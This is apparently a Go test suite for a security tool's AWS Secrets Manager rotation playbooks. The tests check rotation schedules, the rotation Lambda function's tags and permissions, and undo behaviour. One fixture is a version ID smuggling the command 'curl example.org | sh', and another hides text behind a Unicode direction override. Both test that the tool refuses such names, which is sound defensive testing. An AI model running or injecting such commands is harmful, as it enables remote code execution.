package secretsmanager_test

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager/types"
	"github.com/aws/smithy-go"

	playbook "github.com/salve-security/salve/functions/playbooks/secretsmanager"
	"github.com/salve-security/salve/functions/playbooktest"
	"github.com/salve-security/salve/internal/fault"
	"github.com/salve-security/salve/internal/names"
)

// later is when the suites run: secrets are always new.
//
//nolint:gochecknoglobals // the stand-in of both suites goes by it
var later = time.Now().Add(100 * day)

// rotations stand in for the rotation of Secrets Manager. The emulator forgets the function with each call, runs it in
// a container, which the lab has not, and leaves AWSPENDING behind.
//
//nolint:gochecknoglobals // the tests of this package share one lab, and the lab has one handler
var rotations = &rotator{all: map[string]*secret{}}

type secret = secretsmanager.DescribeSecretOutput

type rotator struct {
	mu  sync.Mutex
	all map[string]*secret // by ARN, what is about rotation
}

// ServeHTTP answers what it stands in for, and 501 to everything else.
func (r *rotator) ServeHTTP(w http.ResponseWriter, in *http.Request) {
	r.mu.Lock()
	defer r.mu.Unlock()
	var asked secretsmanager.RotateSecretInput
	_ = json.NewDecoder(in.Body).Decode(&asked) // what it cannot read is not its
	is := r.all[aws.ToString(asked.SecretId)]
	_, operation, _ := strings.Cut(in.Header.Get("X-Amz-Target"), ".")
	switch operation {
	case "CancelRotateSecret":
		is.RotationEnabled = aws.Bool(false)
	case "RotateSecret":
		is.RotationEnabled, is.RotationRules = aws.Bool(true), asked.RotationRules
		if asked.RotationLambdaARN != nil {
			is.RotationLambdaARN = asked.RotationLambdaARN
		}
		if asked.RotateImmediately == nil {
			is.LastRotatedDate = &later
		}
	default:
		w.WriteHeader(http.StatusNotImplemented)
		return
	}
	_, _ = w.Write([]byte("{}"))
}

// amend shows what it knows.
func (r *rotator) amend(_, output any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	out, described := output.(*secret)
	if !described || r.all[aws.ToString(out.ARN)] == nil {
		return
	}
	is := r.all[*out.ARN]
	out.RotationEnabled, out.RotationLambdaARN = is.RotationEnabled, is.RotationLambdaARN
	out.RotationRules, out.LastRotatedDate = is.RotationRules, is.LastRotatedDate
}

// seed makes a secret with a function that may rotate it, and with a rotation that is on or off.
func (r *rotator) seed(on bool) func(context.Context, *testing.T, aws.Config) string {
	return func(ctx context.Context, t *testing.T, root aws.Config) string {
		t.Helper()
		arn := newSecret(ctx, t, root)
		function := newFunction(ctx, t, root, map[string]string{names.MarkRotates: names.Marked})
		r.mu.Lock()
		defer r.mu.Unlock()
		r.all[arn] = &secret{RotationEnabled: &on, RotationLambdaARN: &function}
		return arn
	}
}

// every is somebody who gives the secret another schedule.
func (r *rotator) every(days int64) playbooktest.Act {
	return func(_ context.Context, _ *testing.T, _ aws.Config, resource string) {
		r.mu.Lock()
		defer r.mu.Unlock()
		r.all[resource].RotationRules = &types.RotationRulesType{AutomaticallyAfterDays: &days}
	}
}

func (r *rotator) observe(ctx context.Context, t *testing.T, root aws.Config, resource string) any {
	t.Helper()
	out := playbooktest.Got(secretsmanager.NewFromConfig(root).DescribeSecret(ctx, &secretsmanager.DescribeSecretInput{
		SecretId: &resource,
	}))(t)
	r.mu.Lock()
	defer r.mu.Unlock()
	seen := []any{out.Tags, len(out.ReplicationStatus), r.all[resource].LastRotatedDate}
	if *r.all[resource].RotationEnabled {
		seen = append(seen, r.all[resource].RotationRules)
	}
	return seen
}

func newFunction(ctx context.Context, t *testing.T, root aws.Config, tags map[string]string) string {
	t.Helper()
	client, name := lambda.NewFromConfig(root), "rotate-"+rand.Text()
	role := playbooktest.Got(iam.NewFromConfig(root).CreateRole(ctx, &iam.CreateRoleInput{
		RoleName: &name, AssumeRolePolicyDocument: aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow",` +
			`"Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}]}`),
	}))(t).Role
	out := playbooktest.Got(client.CreateFunction(ctx, &lambda.CreateFunctionInput{
		FunctionName: &name, Runtime: lambdatypes.RuntimePython312, Handler: aws.String("main.handle"), Tags: tags,
		// Nothing runs it: the lab asks for an archive.
		Code: &lambdatypes.FunctionCode{ZipFile: []byte("PK\x05\x06" + strings.Repeat("\x00", 18))},
		Role: role.Arn,
	}))(t)
	playbooktest.Got(client.AddPermission(ctx, &lambda.AddPermissionInput{
		FunctionName: &name, StatementId: aws.String("SecretsManager"), Action: aws.String("lambda:InvokeFunction"),
		Principal: aws.String("secretsmanager.amazonaws.com"), SourceAccount: aws.String(playbooktest.DefaultAccount),
	}))(t)
	return *out.FunctionArn
}

func replicate(ctx context.Context, t *testing.T, root aws.Config, resource string) {
	t.Helper()
	playbooktest.Got(secretsmanager.NewFromConfig(root).ReplicateSecretToRegions(ctx,
		&secretsmanager.ReplicateSecretToRegionsInput{
			SecretId: &resource, AddReplicaRegions: []types.ReplicaRegionType{{Region: aws.String("us-west-2")}},
		}))(t)
}

// unseen is what Secrets Manager asks for by itself.
func unseen() map[string]string {
	return map[string]string{
		"lambda:InvokeFunction": "Secrets Manager asks for it with RotateSecret: TestOnlyMarkedFunctions",
	}
}

func TestRotation(t *testing.T) {
	playbooktest.Run(t, playbooktest.Suite{
		World:   playbooktest.Amended(playbooktest.Serving(t, "secretsmanager", rotations), rotations.amend),
		Control: playbook.Rotation()[0], Seed: rotations.seed(false), Foreign: foreign(), Observe: rotations.observe,
		Disturb: rotations.every(7), Unrelated: tag, DisturbFact: replicate, Delete: remove, Unseen: unseen(),
	})
}

func TestOverdue(t *testing.T) {
	playbooktest.Run(t, playbooktest.Suite{
		World:   playbooktest.Amended(playbooktest.Serving(t, "secretsmanager", rotations), rotations.amend),
		Control: playbook.Overdue()[0], Seed: rotations.seed(true), Foreign: foreign(), Observe: rotations.observe,
		Now: later, Unrelated: tag, DisturbFact: replicate, Delete: remove, Unseen: unseen(),
		Skip: map[string]string{playbooktest.CaseDrift: "a secret is overdue or not: a third value does not exist"},
	})
}

const function = "arn:aws:lambda:us-east-1:222222222222:function:rotate"

// marked answers about a secret, and a function that may rotate it.
func marked(out secret) playbooktest.StandIn {
	return playbooktest.Answers(&out,
		&lambda.ListTagsOutput{Tags: map[string]string{names.MarkRotates: names.Marked}},
		&lambda.GetPolicyOutput{Policy: aws.String(`{"Statement":[{"Effect":"Allow","Principal":{"Service":` +
			`"secretsmanager.amazonaws.com"},"Action":"lambda:InvokeFunction","Resource":"` + function + `"}]}`)})
}

// rotated is a secret of the function, whose rotation is on or off.
func rotated(on bool, days int64, expression string) secret {
	out := secret{
		RotationEnabled: &on, RotationLambdaARN: aws.String(function), CreatedDate: aws.Time(later),
		RotationRules: &types.RotationRulesType{},
	}
	if days > 0 {
		out.RotationRules.AutomaticallyAfterDays = &days
	}
	if expression != "" {
		out.RotationRules.ScheduleExpression = &expression
	}
	return out
}

func TestLineOfRotation(t *testing.T) {
	at := func(days int) map[string]any { return map[string]any{"maximumAllowedRotationFrequency": days} }
	judged := func(fails bool, params map[string]any, out secret) playbooktest.Shape {
		return playbooktest.Shape{Answers: marked(out), Params: params, Fails: fails}
	}
	const cron = "cron(0 4 1 * ? *)"
	begun := rotated(false, 30, "")
	begun.VersionIdsToStages = map[string][]string{"v2": {"AWSPENDING"}, "v1": {"AWSCURRENT"}}
	named, hidden := rotated(false, 30, ""), rotated(false, 30, "") // by whoever may put a value: AWS takes any text
	named.VersionIdsToStages = map[string][]string{"v2; curl example.org | sh # 32 letters": {"AWSPENDING"}}
	hidden.VersionIdsToStages = map[string][]string{"v2\u202e of 32 letters, some do not show": {"AWSPENDING"}}
	ended := rotated(false, 30, "")
	ended.VersionIdsToStages = map[string][]string{"v2": {"AWSPENDING", "AWSCURRENT"}, "v1": {"AWSPREVIOUS"}}
	playbooktest.Judged(t, playbook.Rotation()[0], prefix+"app-a1B2c3", map[string]playbooktest.Shape{
		"off":                      judged(true, nil, rotated(false, 30, "")),
		"not said":                 judged(true, nil, secret{RotationLambdaARN: aws.String(function)}),
		"on":                       judged(false, nil, rotated(true, 1000, "")),
		"on, by hours":             judged(false, nil, rotated(true, 0, "rate(4 hours)")),
		"on, by cron":              judged(false, nil, rotated(true, 0, cron)),
		"as often as may be":       judged(false, at(30), rotated(true, 30, "")),
		"not often enough":         judged(true, at(30), rotated(true, 31, "")),
		"rate, often enough":       judged(false, at(1), rotated(true, 0, "rate(24 hours)")),
		"rate, not often enough":   judged(true, at(1), rotated(true, 0, "rate(25 hours)")),
		"rate of days":             judged(true, at(9), rotated(true, 0, "rate(10 days)")),
		"cron, as AWS counts":      judged(false, at(31), rotated(true, 31, cron)),
		"a rotation that ended":    judged(true, nil, ended),
		"off, with a cron of days": judged(true, at(31), rotated(false, 31, cron)),
		"cron, not often enough": {
			Answers: marked(rotated(true, 31, cron)), Params: at(30), Class: fault.Refused, Words: []string{cron, "30 days"},
		},
		"cron, not counted": {
			Answers: marked(rotated(true, 0, cron)), Params: at(30), Class: fault.Refused, Words: []string{cron},
		},
		"on, by nobody knows what": {Answers: marked(rotated(true, 0, "")), Params: at(30), Class: fault.Invalid},
		"a rotation under way": {
			Answers: marked(begun), Class: fault.Refused, Words: []string{"--remove-from-version-id v2"},
		},
		"one that means something to a shell": {
			Answers: marked(named), Class: fault.Refused,
			Words: []string{"AWSPENDING away from its version, whose name is no text"},
		},
		"one that does not show": {
			Answers: marked(hidden), Class: fault.Refused, Words: []string{"away from its version, whose name is no text"},
		},
	})
}

// What Secrets Manager remembers is kept where AWS takes it, and no more of it is changed than must be.
func TestScheduleStays(t *testing.T) {
	c := playbook.Rotation()[0]
	window := rotated(true, 60, "rate(60 days)")
	window.RotationRules.Duration = aws.String("3h")
	for name, s := range map[string]struct {
		out  secret
		most int
		want string
	}{
		"remembered": {rotated(false, 30, ""), 0, "Every.Days: 0 → 30"},
		"too rare":   {rotated(false, 120, ""), 60, "Every.Days: 0 → 60"},
		"none":       {secret{RotationLambdaARN: aws.String(function)}, 0, "Every.Days: 0 → 90"},
		"to a day":   {rotated(true, 0, "rate(30 hours)"), 1, `"rate(30 hours)" → "rate(1 day)"`},
		"on":         {window, 30, `Every.Expression: "rate(60 days)" → "rate(30 days)"`},
	} {
		t.Run(name, func(t *testing.T) {
			env := playbooktest.Env(t, c, prefix+"app-a1B2c3", playbooktest.Unplugged(), marked(s.out),
				playbooktest.With(map[string]any{"maximumAllowedRotationFrequency": s.most}))
			plan := playbooktest.Got(c.Plan(t.Context(), env))(t)
			if got := plan.String(); !strings.Contains(got, s.want) || strings.Contains(got, "Window") {
				t.Errorf("want %s, got\n%s", s.want, got)
			}
		})
	}
}

// better: SecretsManager.1 asks for a rotation function where there is none
func TestFunctionThatRotates(t *testing.T) {
	gone := func(any) (any, error) { return nil, &lambdatypes.ResourceNotFoundException{} }
	off := func(function string) secret {
		return secret{RotationLambdaARN: &function, CreatedDate: aws.Time(later)}
	}
	without := func(operation string) playbooktest.StandIn {
		s := marked(off(function))
		s[operation] = gone
		return s
	}
	tagged := func(tags map[string]string) playbooktest.StandIn {
		s := marked(off(function))
		s["ListTags"] = func(any) (any, error) { return &lambda.ListTagsOutput{Tags: tags}, nil }
		return s
	}
	others := marked(off(function))
	others["GetPolicy"] = func(any) (any, error) {
		return &lambda.GetPolicyOutput{Policy: aws.String(`{"Statement":[{"Effect":"Allow","Principal":{"Service":` +
			`"s3.amazonaws.com"},"Action":"lambda:InvokeFunction"}]}`)}, nil
	}
	mark := "aws lambda tag-resource --region us-east-1 --resource " + function + " --tags salve:rotates=yes"
	refused := func(answers playbooktest.StandIn, words ...string) playbooktest.Shape {
		return playbooktest.Shape{Answers: answers, Class: fault.Refused, Words: words}
	}
	named := map[string]any{"rotationLambdaArn": function}
	playbooktest.Judged(t, playbook.Rotation()[0], prefix+"app-a1B2c3", map[string]playbooktest.Shape{
		"none":              refused(marked(off("")), "rotationLambdaArn"),
		"named":             {Answers: marked(off("")), Params: named, Fails: true},
		"is not there":      refused(without("ListTags"), function+" does not"),
		"not marked":        refused(tagged(nil), mark, "has not said so"),
		"marked otherwise":  refused(tagged(map[string]string{"salve:rotates": "no"}), mark),
		"another account's": refused(marked(off(strings.Replace(function, "2222", "9999", 1))), "account 222222222222"),
		"another Region's":  refused(marked(off(strings.Replace(function, "east", "west", 1))), "Region us-east-1"),
		"a version":         refused(marked(off(function+":1")), "without version"),
		"Salve's own":       refused(marked(off(strings.Replace(function, ":rotate", ":salve-x", 1))), "Salve's own"),
		"without a policy":  refused(without("GetPolicy"), "aws lambda add-permission", "--source-account 222222222222"),
		"lets others in":    refused(others, "aws lambda add-permission"),
	})
}

// Whose secret it is decides who rotates it.
func TestSecretsOfOthers(t *testing.T) {
	refused := func(word string, edit func(*secret)) playbooktest.Shape {
		out := rotated(false, 30, "")
		edit(&out)
		return playbooktest.Shape{Answers: marked(out), Class: fault.Refused, Words: []string{word}}
	}
	shapes := map[string]playbooktest.Shape{
		"of a service":  refused("let rds rotate", func(s *secret) { s.OwningService = aws.String("rds") }),
		"a replica":     refused("Region eu-west-1", func(s *secret) { s.PrimaryRegion = aws.String("eu-west-1") }),
		"to be deleted": refused("to be deleted", func(s *secret) { s.DeletedDate = aws.Time(later) }),
		"of a partner":  refused("partner", func(s *secret) { s.Type = aws.String("partner") }),
	}
	playbooktest.Judged(t, playbook.Rotation()[0], prefix+"app-a1B2c3", shapes)
	playbooktest.Judged(t, playbook.Overdue()[0], prefix+"app-a1B2c3", shapes, playbooktest.At(later.Add(91*day)))
}

// Clients keep their credential: nothing is rotated at once, and the session of the write has this function called
// alone.
func TestRotationBeginsLater(t *testing.T) {
	c, answers := playbook.Rotation()[0], marked(rotated(false, 30, ""))
	var asked *secretsmanager.RotateSecretInput
	answers["RotateSecret"] = func(in any) (any, error) {
		asked = in.(*secretsmanager.RotateSecretInput)
		return &secretsmanager.RotateSecretOutput{}, nil
	}
	env := playbooktest.Env(t, c, prefix+"app-a1B2c3", playbooktest.Unplugged(), answers)
	plan := playbooktest.Got(c.Plan(t.Context(), env))(t)
	if called := playbooktest.Got(c.Passing(env, plan))(t).Functions; !slices.Equal(called, []string{function}) {
		t.Errorf("the session has %v called", called)
	}
	playbooktest.Done(t, c.Apply(t.Context(), env, plan))
	if asked == nil || aws.ToBool(asked.RotateImmediately) || asked.RotateImmediately == nil ||
		*asked.RotationLambdaARN != function || *asked.RotationRules.AutomaticallyAfterDays != 30 {
		t.Errorf("asked for %+v", asked)
	}
	// A function that somebody has attached since is not replaced.
	other := rotated(false, 30, "")
	other.RotationLambdaARN = aws.String(function + "-2")
	answers["DescribeSecret"] = func(any) (any, error) { return &other, nil }
	playbooktest.Fails(t, c.Apply(t.Context(), env, plan), fault.Drifted, function+"-2")
	answers["DescribeSecret"] = marked(rotated(false, 30, ""))["DescribeSecret"]
	answers["RotateSecret"] = func(any) (any, error) {
		return nil, &smithy.GenericAPIError{Code: "AccessDeniedException", Message: "Secrets Manager cannot invoke the " +
			"specified Lambda function. Ensure that the function policy grants access."}
	}
	playbooktest.Fails(t, c.Apply(t.Context(), env, plan), fault.Refused, "let Secrets Manager call")
}

// What a cancelled rotation leaves half done nobody could put right: undo waits for its end.
func TestUndoOfRotationUnderWay(t *testing.T) {
	c, is := playbook.Rotation()[0], rotated(false, 30, "")
	answers := marked(is)
	answers["DescribeSecret"] = func(any) (any, error) { return &is, nil }
	answers["RotateSecret"] = func(any) (any, error) {
		is = rotated(true, 30, "")
		return &secretsmanager.RotateSecretOutput{}, nil
	}
	env := playbooktest.Env(t, c, prefix+"app-a1B2c3", playbooktest.Unplugged(), answers)
	changes := playbooktest.Fix(t, c, env)
	is.VersionIdsToStages = map[string][]string{"v2": {"AWSPENDING"}, "v1": {"AWSCURRENT"}}
	plan := playbooktest.Got(c.PlanUndo(t.Context(), env, changes))(t)
	playbooktest.Fails(t, c.Apply(t.Context(), env, plan), fault.Refused, "under way", "v2")
}
